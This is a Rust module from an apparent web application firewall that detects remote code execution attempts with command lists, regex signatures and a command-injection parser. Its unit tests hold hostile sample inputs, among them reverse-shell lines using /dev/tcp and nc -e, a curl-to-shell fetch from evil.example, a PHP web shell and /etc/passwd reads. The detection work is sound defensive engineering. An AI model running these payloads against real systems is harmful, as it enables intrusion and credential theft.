//! Remote code execution: OS command injection (a shell separator or substitution followed by a command and
//! shell-shaped arguments), shell tricks (`$IFS`, brace expansion, shellshock), reverse shells, and code
//! injection into interpreters (PHP, Python, Node, Java, Perl). A command word alone is prose ("cat",
//! "exec", "find more"); it takes the separator *and* a command *and* an argument that looks like a shell's.

use std::sync::LazyLock;

use super::{Ctx, Hit, Signatures};

pub const FRAGMENTS: &[&str] = &[
    ";",
    "|",
    "&",
    "`",
    "$(",
    "${",
    "$ifs",
    "\n",
    "() {",
    "/bin/",
    "/usr/",
    "cmd",
    "powershell",
    "<?",
    "system",
    "exec",
    "passthru",
    "popen",
    "proc_open",
    "eval",
    "assert",
    "runtime",
    "processbuilder",
    "child_process",
    "__import__",
    "subprocess",
    "os.",
    "/dev/tcp",
    "wget ",
    "curl ",
    "nc ",
    "bash",
    "python",
    "perl",
    "ruby",
    "phpinfo",
    "base64_decode",
    "{",
    "\r",
    "%0a",
    "cat ",
    "ping ",
    "sleep ",
];

/// Commands an injection runs, Unix and Windows.
const COMMANDS: &[&str] = &[
    "id",
    "whoami",
    "uname",
    "ls",
    "cat",
    "pwd",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "lua",
    "echo",
    "ping",
    "nslookup",
    "dig",
    "sleep",
    "chmod",
    "chown",
    "rm",
    "mv",
    "cp",
    "mkdir",
    "touch",
    "ifconfig",
    "netstat",
    "ps",
    "kill",
    "killall",
    "pkill",
    "find",
    "grep",
    "egrep",
    "awk",
    "gawk",
    "sed",
    "head",
    "tail",
    "more",
    "less",
    "env",
    "printenv",
    "export",
    "sudo",
    "su",
    "crontab",
    "telnet",
    "ssh",
    "scp",
    "ftp",
    "tftp",
    "base64",
    "xxd",
    "od",
    "nohup",
    "timeout",
    "tar",
    "gzip",
    "busybox",
    "socat",
    "nmap",
    "hostname",
    "history",
    "useradd",
    "passwd",
    "systemctl",
    "service",
    "mknod",
    "mkfifo",
    "eval",
    "exec",
    "xterm",
    "lynx",
    "dir",
    "type",
    "ver",
    "systeminfo",
    "tasklist",
    "taskkill",
    "net",
    "netsh",
    "reg",
    "wmic",
    "powershell",
    "pwsh",
    "cmd",
    "certutil",
    "bitsadmin",
    "ipconfig",
    "copy",
    "del",
    "start",
    "sc",
    "schtasks",
    "cscript",
    "wscript",
    "mshta",
    "rundll32",
    "regsvr32",
    "uptime",
    "w",
    "who",
    "last",
    "df",
    "du",
    "free",
    "mount",
    "chattr",
    "whereis",
    "which",
    "file",
    "strings",
    "ln",
    "openssl",
    "gcc",
    "cc",
    "make",
    "java",
    "jrunscript",
    "tclsh",
    "wish",
    "expect",
    "screen",
    "tmux",
    "at",
    "shutdown",
    "reboot",
    "halt",
    "init",
    "dd",
    "nl",
    "tac",
    "rev",
    "sort",
    "uniq",
    "cut",
    "tr",
    "xargs",
    "yes",
    "getent",
    "lsof",
    "ss",
    "route",
    "arp",
    "traceroute",
    "host",
    "whois",
    "finger",
    "rlogin",
    "rsh",
    "rcp",
    "smbclient",
    "mysql",
    "psql",
    "sqlite3",
    "fetch",
    "pl",
    "unset",
    "set",
    "sysinfo",
    "ipconfig.exe",
    "cmd.exe",
    "net.exe",
    "wget.exe",
    "curl.exe",
    "bash.exe",
    "sh.exe",
    "powershell.exe",
    "certutil.exe",
    "whoami.exe",
    "ping.exe",
    "nslookup.exe",
    "systeminfo.exe",
    "cat.exe",
];

/// Commands whose bare use (no argument) after a separator already does harm or reconnaissance.
const STANDALONE: &[&str] = &[
    "id",
    "whoami",
    "uname",
    "ls",
    "pwd",
    "ifconfig",
    "ipconfig",
    "netstat",
    "ps",
    "env",
    "printenv",
    "hostname",
    "systeminfo",
    "tasklist",
    "ver",
    "dir",
    "uptime",
    "w",
    "who",
    "history",
    "reboot",
    "halt",
    "shutdown",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "set",
    "whoami.exe",
    "ipconfig.exe",
    "systeminfo.exe",
    "cmd",
    "cmd.exe",
    "powershell",
    "pwsh",
    "powershell.exe",
    "df",
    "free",
    "mount",
    "last",
];

static SIGNATURES: LazyLock<Signatures> = LazyLock::new(|| {
    Signatures::new(&[
        (r"\(\s*\)\s*\{[^}]*[;}]", 0.99, "rce.shellshock"),
        (
            r"\$\{?ifs\}?|\$\{?path:0:1\}?|\$\{?home:0:1\}?",
            0.92,
            "rce.shell_variable_trick",
        ),
        (r"/dev/(?:tcp|udp)/", 0.95, "rce.reverse_shell"),
        (
            r"\b(?:nc|ncat|netcat)(?:\.exe)?\s+(?:-?[a-z0-9.]*\s+)*-[a-z]*[ec]\b",
            0.95,
            "rce.reverse_shell",
        ),
        (
            r"\bbash\s+-i\b|\bsh\s+-i\b|\bpty\.spawn\(|\bmkfifo\b.*\bnc\b|\bsocat\b.*\bexec:",
            0.95,
            "rce.reverse_shell",
        ),
        (
            r"(?:^|[^a-z])(?:/usr)?/bin/(?:ba|z|k|c|tc|da)?sh\b|/bin/busybox\b",
            0.88,
            "rce.shell_path",
        ),
        (
            r"\bcmd(?:\.exe)?\s*/[ck]\b|\bpowershell(?:\.exe)?\s+(?:-[a-z]+\s+)*-(?:c|e|enc|encodedcommand|command|nop|w)\b|%comspec%",
            0.92,
            "rce.windows_shell",
        ),
        (
            r"\bcertutil(?:\.exe)?\s+-urlcache|\bbitsadmin\s+/transfer|\bmshta\s+(?:https?|vbscript|javascript):|\bregsvr32\s+/s|\brundll32(?:\.exe)?\s+\S+,",
            0.92,
            "rce.windows_lolbin",
        ),
        (r"<\?(?:php\b|=)", 0.9, "rce.php_open_tag"),
        (
            r"(?:^|[^a-z_.$])(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|phpinfo|assert|create_function|call_user_func(?:_array)?|preg_replace|include|require|include_once|require_once|file_put_contents|fsockopen)\s*\(",
            0.72,
            "rce.php_function",
        ),
        (
            r#"(?:^|[^a-z_.$])(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|eval|assert|phpversion|phpinfo)\s*\(\s*(?:['"`]|\)|\$)"#,
            0.92,
            "rce.php_call_with_code",
        ),
        (
            r"\beval\s*\(\s*(?:\$_|base64_decode|gzinflate|str_rot13|atob|request|\$\w+\s*\()|\bbase64_decode\s*\(\s*\$_|\$_(?:get|post|request|cookie|server)\s*\[",
            0.93,
            "rce.php_eval",
        ),
        (
            r"runtime\s*\.\s*getruntime\s*\(\s*\)\s*\.\s*exec|new\s+processbuilder\s*\(|java\.lang\.(?:runtime|processbuilder|system)|\bscriptenginemanager\b",
            0.95,
            "rce.java_exec",
        ),
        (
            r"require\s*\(\s*['\x22]child_process['\x22]\s*\)|child_process\s*\.\s*(?:exec|spawn)|process\s*\.\s*mainmodule|global\s*\.\s*process",
            0.95,
            "rce.node_exec",
        ),
        (
            r"__import__\s*\(\s*['\x22](?:os|subprocess|pty)|\bos\s*\.\s*(?:system|popen|exec[lv]p?e?)\s*\(|\bsubprocess\s*\.\s*(?:call|popen|run|check_output)\s*\(|\bpty\s*\.\s*spawn",
            0.95,
            "rce.python_exec",
        ),
        (
            r"\b(?:python[23]?|perl|ruby|php|node|lua)\s+-[a-z]*[ecr]\s+['\x22]",
            0.93,
            "rce.interpreter_inline",
        ),
        (
            r"\b(?:wget|curl)\s+(?:-[a-z-]+\s+\S*\s*)*(?:https?|ftp)://\S+\s*(?:\||;|&&|-o\s|-O\s|>)",
            0.92,
            "rce.download_and_run",
        ),
        (
            r"\{\s*(?:cat|ls|id|echo|wget|curl|nc|bash|sh|ping|uname|whoami)\s*,[^}]*\}",
            0.92,
            "rce.brace_expansion",
        ),
        (
            r"\b(?:echo|print|printf)\s+[^|;&]*\|\s*(?:ba|z|k)?sh\b|\|\s*(?:ba|z|k)?sh\s*$",
            0.92,
            "rce.pipe_to_shell",
        ),
    ])
});

pub fn detect(s: &str, _ctx: &Ctx) -> Option<Hit> {
    let mut best: Option<Hit> = None;
    if let Some(h) = SIGNATURES.best(s) {
        best = Hit::max(best, h);
    }
    if best.is_some_and(|h| h.confidence >= 0.95) {
        return best;
    }
    if let Some(h) = command_injection(s) {
        best = Hit::max(best, h);
    }
    best
}

/// A shell separator or substitution, then a command, then shell-shaped arguments.
fn command_injection(s: &str) -> Option<Hit> {
    let b = s.as_bytes();
    let mut best: Option<Hit> = None;
    let mut i = 0;
    let mut checked = 0;
    while i < b.len() && checked < 32 {
        let c = b[i];
        let (sep_len, strength) = match c {
            b';' | b'\n' | b'\r' => (1, 1.0f32),
            b'|' | b'&' => (if b.get(i + 1) == Some(&c) { 2 } else { 1 }, 1.0),
            b'`' => (1, 1.0),
            b'$' if b.get(i + 1) == Some(&b'(') => (2, 1.05),
            // A quote that closes the application's shell string: only with an unmistakable command after.
            b'\'' | b'"'
                if command_at(s, i + 1)
                    .is_some_and(|(w, _)| UNAMBIGUOUS.contains(&w) || STANDALONE_WORDS.contains(&w)) =>
            {
                (1, 1.0)
            }
            _ => {
                i += 1;
                continue;
            }
        };
        checked += 1;
        let cmd_start = i + sep_len;
        if let Some((word, arg_start)) = command_at(s, cmd_start) {
            let arg = &s[arg_start..];
            let arg = arg.trim_start_matches([' ', '\t']);
            let shellish = shell_argument(arg) || subcommand(word, arg) || UNAMBIGUOUS.contains(&word);
            let standalone = STANDALONE.contains(&word)
                && arg.bytes().next().is_none_or(|c| {
                    matches!(
                        c,
                        b';' | b'|' | b'&' | b'`' | b')' | b'\n' | b'#' | b'\'' | b'"' | b'>' | b'<'
                    )
                });
            let substitution = matches!(c, b'`' | b'$');
            let conf = if shellish || standalone {
                0.93 * strength
            } else if substitution {
                0.85
            } else {
                0.55
            };
            let end = (arg_start + 30).min(s.len());
            let end = (end..=s.len()).find(|e| s.is_char_boundary(*e)).unwrap_or(s.len());
            best = Hit::max(best, Hit::new(conf.min(0.99), i, end, "rce.command_injection"));
            if conf >= 0.93 {
                return best;
            }
        }
        i = cmd_start;
    }
    // A whole value that is one reconnaissance command (`uname`, `ifconfig`): not a word people type.
    let whole = s.trim();
    if STANDALONE_WORDS.contains(&whole) {
        best = Hit::max(best, Hit::new(0.9, 0, s.len(), "rce.bare_command"));
    }
    // A whole value that is a command line: `cat /etc/passwd`, `ping -c 3 10.0.0.1`.
    if let Some((word, arg_start)) = command_at(s, 0)
        && !matches!(
            word,
            "type"
                | "set"
                | "start"
                | "more"
                | "less"
                | "find"
                | "host"
                | "file"
                | "at"
                | "w"
                | "make"
                | "last"
                | "free"
                | "which"
                | "copy"
                | "sort"
                | "cut"
                | "yes"
                | "head"
                | "tail"
                | "echo"
                | "net"
                | "java"
        )
    {
        let arg = s[arg_start..].trim_start();
        if (shell_argument(arg) || subcommand(word, arg)) && arg.len() < 200 {
            // Flags, paths and URLs as arguments are how shells are spoken to, not people.
            let strong = arg.starts_with(['-', '/', '\\', '$', '|', '>'])
                || arg.contains("://")
                || subcommand(word, arg)
                || (UNAMBIGUOUS.contains(&word) && word != "nc")
                || arg.starts_with("c:");
            let c = if strong { 0.9 } else { 0.8 };
            best = Hit::max(best, Hit::new(c, 0, s.len().min(60), "rce.command_line"));
        }
    }
    best
}

/// The command word at `at` (after whitespace, quotes, `{`, `(` and a path to a bin directory), and where
/// its arguments start.
fn command_at(s: &str, at: usize) -> Option<(&str, usize)> {
    let b = s.as_bytes();
    let mut i = at;
    while i < b.len()
        && matches!(
            b[i],
            b' ' | b'\t' | b'\n' | b'\r' | b'{' | b'(' | b'\'' | b'"' | b'!' | b'\\'
        )
    {
        i += 1;
    }
    // Path prefixes: /bin/, /usr/bin/, /usr/local/bin/, ./, c:\windows\system32\
    for prefix in [
        "/usr/local/bin/",
        "/usr/bin/",
        "/bin/",
        "/usr/sbin/",
        "/sbin/",
        "./",
        "c:\\windows\\system32\\",
    ] {
        if s[i..].starts_with(prefix) {
            i += prefix.len();
            break;
        }
    }
    let start = i;
    while i < b.len() && (b[i].is_ascii_alphanumeric() || matches!(b[i], b'_' | b'.' | b'-')) {
        i += 1;
    }
    // Shell quoting inside a word (`c''at`, `w\ho\ami`) is removed by the shell.
    let word = &s[start..i];
    if word.is_empty() {
        return None;
    }
    let word = word.trim_end_matches('.');
    COMMAND_SET.contains(word).then_some((word, i))
}

/// Subcommands that make a Windows administration tool's use unmistakable (`net user x /add`).
/// [`COMMANDS`] hashed: every separator in a value looks a word up, and a linear scan of the list was a
/// tenth of a clean request's inspection time.
static COMMAND_SET: LazyLock<std::collections::HashSet<&'static str>> =
    LazyLock::new(|| COMMANDS.iter().copied().collect());

const SUBCOMMANDS: &[(&str, &[&str])] = &[
    (
        "net",
        &[
            "user",
            "users",
            "view",
            "localgroup",
            "group",
            "share",
            "use",
            "start",
            "stop",
            "accounts",
            "session",
            "config",
        ],
    ),
    ("reg", &["add", "query", "delete", "save", "export", "import", "load"]),
    (
        "netsh",
        &[
            "firewall",
            "advfirewall",
            "interface",
            "wlan",
            "http",
            "winsock",
            "portproxy",
        ],
    ),
    ("sc", &["create", "config", "start", "stop", "query", "delete"]),
    (
        "wmic",
        &[
            "process",
            "os",
            "useraccount",
            "service",
            "shadowcopy",
            "qfe",
            "computersystem",
        ],
    ),
    ("getent", &["hosts", "passwd", "group", "shadow", "ahosts"]),
];

fn subcommand(cmd: &str, arg: &str) -> bool {
    let first = arg.split_whitespace().next().unwrap_or("");
    SUBCOMMANDS.iter().any(|(c, subs)| *c == cmd && subs.contains(&first))
}

/// Whether text after a command looks like a shell's arguments rather than a sentence.
fn shell_argument(arg: &str) -> bool {
    let Some(first) = arg.bytes().next() else {
        return false;
    };
    if matches!(
        first,
        b'-' | b'/' | b'.' | b'$' | b'~' | b'>' | b'<' | b'|' | b'*' | b'\\' | b'`' | b'%'
    ) {
        return true;
    }
    if first.is_ascii_digit() {
        return true;
    }
    if matches!(first, b'\'' | b'"') {
        return arg.len() > 2;
    }
    let word: String = arg.chars().take_while(|c| !c.is_whitespace()).collect();
    word.contains("://")
        || word.contains('/')
        || word.contains('\\')
        || word.contains('=')
        || word.ends_with(".txt")
        || word.ends_with(".sh")
        || word.ends_with(".php")
        || word.starts_with("c:")
        || word.starts_with("http")
        || UNAMBIGUOUS.contains(&word.as_str())
}

/// Reconnaissance commands that are not words, as a whole value.
const STANDALONE_WORDS: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "systeminfo",
    "sysinfo",
    "tasklist",
    "pwd",
    "printenv",
    "whoami.exe",
    "ipconfig.exe",
    "systeminfo.exe",
    "getuid",
    "hostnamectl",
    "lsb_release",
];

/// Commands that are not also English words, so seeing one as an argument (`; echo x | whoami`) is telling.
const UNAMBIGUOUS: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "wget",
    "curl",
    "bash",
    "nc",
    "ncat",
    "netcat",
    "python",
    "python3",
    "perl",
    "php",
    "powershell",
    "systeminfo",
    "tasklist",
    "base64",
    "nslookup",
    "xxd",
    "busybox",
    "socat",
    "nmap",
    "certutil",
    "bitsadmin",
    "wmic",
    "mshta",
    "rundll32",
    "regsvr32",
    "chmod",
    "crontab",
];

#[cfg(test)]
mod tests {
    use crate::waf::detect::test_support::confidence;
    use crate::waf::family::Family;

    fn c(s: &str) -> f32 {
        confidence(Family::Rce, s)
    }

    #[test]
    fn separators_followed_by_commands_are_command_injection() {
        for s in [
            "; cat /etc/passwd",
            "| id",
            "127.0.0.1 && whoami",
            "x`id`",
            "$(curl http://evil.example/x.sh | sh)",
            "%0Aping -c 5 10.0.0.1",
            ";/bin/ls -la",
            "a || wget http://example.com/x -O /tmp/x",
        ] {
            assert!(c(s) >= 0.9, "{s}: {}", c(s));
        }
    }

    #[test]
    fn shell_tricks_and_reverse_shells_are_rce() {
        for s in [
            "() { :;}; /bin/bash -c 'id'",
            "cat${IFS}/etc/passwd",
            "{cat,/etc/passwd}",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "nc -e /bin/sh 10.0.0.1 4444",
            "cmd.exe /c dir",
        ] {
            assert!(c(s) >= 0.9, "{s}: {}", c(s));
        }
    }

    #[test]
    fn code_injection_into_interpreters_is_rce() {
        for s in [
            "<?php system($_GET['c']); ?>",
            "__import__('os').system('id')",
            "Runtime.getRuntime().exec(\"id\")",
            "require('child_process').exec('id')",
            "eval(base64_decode($_POST['x']))",
        ] {
            assert!(c(s) >= 0.9, "{s}: {}", c(s));
        }
    }

    #[test]
    fn everyday_words_and_windows_paths_in_prose_pass() {
        for s in [
            "my cat & dog",
            "Tom & Jerry; find more episodes",
            "exec summary attached",
            "Please exec the plan",
            "copy the file to C:\\Users\\anna\\Documents please",
            "rock & roll",
            "the system (beta) works",
            "salt & pepper | sugar",
            "we sleep 8 hours",
        ] {
            assert!(c(s) < 0.9, "{s}: {}", c(s));
        }
    }
}
